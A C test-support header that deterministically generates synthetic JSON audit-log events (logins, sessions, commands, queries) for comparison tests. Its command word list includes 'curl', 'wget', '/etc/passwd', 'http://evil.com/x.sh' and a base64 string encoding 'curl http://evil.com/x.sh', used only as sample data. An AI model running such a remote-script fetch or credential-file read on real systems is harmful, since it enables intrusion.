/* A small world of made-up events for tests that compare: few and many values, nested, arrays,
 * numbers, text, odd types, events without time or uid. The same bytes for the same seed. */
#ifndef TESTS_SUPPORT_AUDIT_WORLD_H
#define TESTS_SUPPORT_AUDIT_WORLD_H

#include "schema/base/buf.h"
#include "schema/base/clock.h"

struct dice {
    uint64_t state;
};

static inline uint32_t dice_roll(struct dice *dice, uint32_t sides)
{
    dice->state = dice->state * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
    return (uint32_t)(dice->state >> 33) % sides;
}

static inline bool dice_one_in(struct dice *dice, uint32_t n)
{
    return dice_roll(dice, n) == 0;
}

#define DICE_PICK(dice, list) ((list)[dice_roll((dice), sizeof(list) / sizeof(list)[0])])

static inline void world_words(struct dice *dice, struct buf *out)
{
    static const char *const words[] = {"curl",
                                        "wget",
                                        "ls -la",
                                        "/etc/passwd",
                                        "http://evil.com/x.sh",
                                        "sudo",
                                        "cat",
                                        "alice",
                                        "10.0.0.1",
                                        "bob@example.com",
                                        "\\u00c4rger",
                                        "C:\\\\Users\\\\Bob",
                                        "a-b-c",
                                        "SELECT * FROM t",
                                        "www.evil.com",
                                        "443",
                                        "x,y;z",
                                        "\\\"quoted\\\"",
                                        "notevil.com",
                                        "2001:db8::7",
                                        "D41D8CD98F00B204E9800998ECF8427E",
                                        "Y3VybCBodHRwOi8vZXZpbC5jb20veC5zaA=="};
    uint32_t count = 1 + dice_roll(dice, 4);
    for (uint32_t i = 0; i < count; i++) {
        buf_printf(out, "%s%s", i ? " " : "", DICE_PICK(dice, words));
    }
    buf_printf(out, " f%u", dice_roll(dice, 100000));
}

static inline void world_address(struct dice *dice, struct buf *out)
{
    if (dice_one_in(dice, 6)) {
        buf_printf(out, "[2001:db8:%x::%x]:%u", dice_roll(dice, 3), dice_roll(dice, 20),
                   dice_roll(dice, 3));
    } else {
        buf_printf(out, "%u.0.%u.%u:%u", 9 + dice_roll(dice, 3), dice_roll(dice, 3),
                   dice_roll(dice, 30), dice_roll(dice, 60000));
    }
}

/* One event of the day that begins at day_us. */
static inline void world_event(struct dice *dice, int64_t day_us, struct buf *out)
{
    static const char *const types[] = {"user.login",      "session.start", "session.end",
                                        "session.command", "cert.create",   "db.session.query"};
    static const char *const codes[] = {"T1000I", "T1000W", "T2004I", "T4000I", "TC000E", "T1S"};
    static const char *const users[] = {"alice", "Bob",        "carol@example.com", "d\\u00f6rte",
                                        "root",  "svc-backup", "10.0.0.1",          "443"};
    static const char *const hosts[] = {"web-1.example.com", "db-2.internal", "node3",
                                        "ip-10-0-0-1.ec2"};
    static const char *const roles[] = {"\"admin\"", "\"access\"", "\"editor\"", "\"on-call\""};
    char time[CLOCK_TEXT_BYTES];
    int64_t time_us = day_us + (int64_t)dice_roll(dice, 86400) * 1000000 + dice_roll(dice, 1000);
    buf_printf(out, "{\"event\":\"%s\",\"code\":\"%s\"", DICE_PICK(dice, types),
               DICE_PICK(dice, codes));
    if (!dice_one_in(dice, 30)) {
        buf_printf(out, ",\"time\":\"%s\"", clock_format(time_us, time));
    }
    if (!dice_one_in(dice, 20)) {
        buf_printf(out, ",\"uid\":\"%08x-%04x-4a5d-93df-%06x%06x\"", dice_roll(dice, 1u << 30),
                   dice_roll(dice, 65536), dice_roll(dice, 1 << 24), dice_roll(dice, 1 << 24));
    }
    const char *actor = dice_one_in(dice, 8) ? "reviewer" : "user";
    buf_printf(out, ",%s\"%s\":\"%s\"", dice_one_in(dice, 50) ? "\n " : "", actor,
               DICE_PICK(dice, users));
    if (dice_one_in(dice, 4)) {
        buf_printf(out, ",\"identity\":{\"user\":\"%s\",\"roles\":[%s,%s]}", DICE_PICK(dice, users),
                   DICE_PICK(dice, roles), DICE_PICK(dice, roles));
    }
    buf_add_str(out, ",\"addr.remote\":\"");
    world_address(dice, out);
    buf_printf(out, "\",\"server_hostname\":\"%s\",\"ei\":%u,\"pid\":%d", DICE_PICK(dice, hosts),
               dice_roll(dice, 5), (int)dice_roll(dice, 5000) - 100);
    if (dice_one_in(dice, 3)) {
        buf_printf(out, ",\"score\":%u.%u,\"success\":%s", dice_roll(dice, 3), dice_roll(dice, 400),
                   dice_one_in(dice, 2) ? "true" : "false");
    }
    if (dice_one_in(dice, 2)) {
        buf_add_str(out, ",\"command\":\"");
        world_words(dice, out);
        buf_add_str(out, "\"");
    }
    if (dice_one_in(dice, 10)) {
        buf_printf(out, ",\"args\":[%u,\"%s\",null,{\"deep\":[\"x%u\",%u]}]", dice_roll(dice, 9),
                   DICE_PICK(dice, users), dice_roll(dice, 50), dice_roll(dice, 2000));
    }
    if (dice_one_in(dice, 40)) { /* a name that is too long for any index */
        buf_printf(out, ",\"%0300d\":\"hidden%u\"", 7, dice_roll(dice, 3));
    }
    buf_printf(out, ",\"ppid\":%u", dice_roll(dice, 2000));
    if (dice_one_in(dice, 300)) {
        buf_printf(out, ",\"pid\":\"odd %u\"", dice_roll(dice, 3));
    }
    buf_add_char(out, '}');
}

#endif
